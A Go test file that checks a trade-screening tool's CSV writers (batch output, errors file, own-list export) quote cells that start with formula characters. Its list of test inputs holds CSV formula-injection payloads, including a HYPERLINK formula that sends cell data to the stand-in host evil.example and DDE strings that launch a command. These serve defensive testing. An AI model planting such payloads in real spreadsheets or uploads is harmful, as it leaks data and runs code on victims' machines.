package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tradescreen/tradescreen"
	"github.com/tradescreen/tradescreen/batch"
	"github.com/tradescreen/tradescreen/ownlist"
)

// hostile are the names the security review put into batch uploads, own lists and user names.
var hostile = []string{`=HYPERLINK("http://evil.example/?x="&A1,"Hikvision")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1"}

// checkCells reads csvText and fails on any cell a spreadsheet would evaluate.
func checkCells(t *testing.T, what string, csvText []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(csvText)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	found := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would be evaluated as a formula", what, cell)
			}
			for _, h := range hostile {
				if cell == "'"+h {
					found++
				}
			}
		}
	}
	if found == 0 {
		t.Errorf("%s: none of the hostile names came out quoted:\n%s", what, csvText)
	}
}

// TestProductWriters writes the hostile names through every CSV writer outside the HTTP and command-line
// packages: the batch output (also the job results file), the batch errors file and the own-list export.
func TestProductWriters(t *testing.T) {
	var outcomes []*batch.Outcome
	for i, h := range hostile {
		outcomes = append(outcomes, &batch.Outcome{Row: &batch.Row{Line: i + 2, ID: h, Name: h,
			Columns: []batch.Column{{Name: "id", Value: h}, {Name: "name", Value: h}}},
			Err: tradescreen.Errorf(tradescreen.EINVALID, "%s", h)})
	}
	var b bytes.Buffer
	w := batch.NewCSVWriter(&b)
	for _, o := range outcomes {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	checkCells(t, "batch CSV output", b.Bytes())

	b.Reset()
	ew := batch.NewErrorsWriter(&b, true)
	for _, o := range outcomes {
		if err := ew.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := ew.Flush(); err != nil {
		t.Fatal(err)
	}
	checkCells(t, "batch errors file", b.Bytes())

	var ps []ownlist.RestrictedParty
	for i, h := range hostile {
		ps = append(ps, ownlist.RestrictedParty{ID: "R-" + string(rune('1'+i)), Name: h, Reason: h})
	}
	checkCells(t, "own-list export", ownlist.ToCSV(ownlist.Restricted, ps, nil))
}

// TestResumedHeader: a batch output resumed after a crash reads back the header it wrote, hostile column
// names included, and goes on under the same columns.
func TestResumedHeader(t *testing.T) {
	var b bytes.Buffer
	w := batch.NewCSVWriter(&b)
	o := &batch.Outcome{Row: &batch.Row{Line: 2, ID: "C-1", Name: "Hikvision", Columns: []batch.Column{{Name: "=id", Value: "C-1"}, {Name: "name", Value: "Hikvision"}}}}
	if err := w.Write(o); err != nil {
		t.Fatal(err)
	}
	w.Close()
	header, err := csv.NewReader(bytes.NewReader(b.Bytes())).Read()
	if err != nil {
		t.Fatal(err)
	}
	rw, err := batch.NewCSVWriterResumed(&b, header)
	if err != nil {
		t.Fatal(err)
	}
	o.Row.ID, o.Row.Columns[0].Value = "C-2", "C-2"
	if err := rw.Write(o); err != nil {
		t.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[0][0] != "'=id" || recs[2][0] != "C-2" {
		t.Fatalf("resumed output: %q", recs)
	}
}
